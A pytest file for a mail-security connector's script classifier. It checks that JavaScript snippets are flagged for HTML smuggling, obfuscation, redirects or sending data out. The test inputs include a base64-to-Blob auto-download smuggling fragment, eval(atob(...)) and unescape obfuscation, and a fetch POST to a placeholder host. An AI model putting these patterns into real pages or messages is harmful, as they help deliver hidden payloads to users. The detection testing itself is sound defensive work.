"""What scripts do, from their text."""

# ruff: noqa: E501  # payloads stay in one piece

import pytest

from triage_warden.connectors.mail.scripts import OBFUSCATED, REDIRECTS, SENDS_OUT, SMUGGLES, script_traits


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        (
            "var b=new Blob([Uint8Array.from(atob(d),c=>c)]);a.href=URL.createObjectURL(b);a.download='x.zip';a.click()",
            {SMUGGLES},
        ),
        ("window.location.href = 'http://a.example'", {REDIRECTS}),
        ("location.replace('http://a.example')", {REDIRECTS}),
        ("eval(atob('eA=='))", {OBFUSCATED}),
        ("document.write(unescape('%3c'))", {OBFUSCATED}),
        ("fetch('http://a.example', {method: 'POST'})", {SENDS_OUT}),
        ("document.title = 'hello'", set()),
        ("let colour = 'red'; function paint() { return colour }", set()),
    ],
)
def test_calls_tell_what_a_script_does(source: str, expected: set[str]) -> None:
    """Smuggling needs all of: built, encoded, handed over."""
    assert script_traits(source) == expected
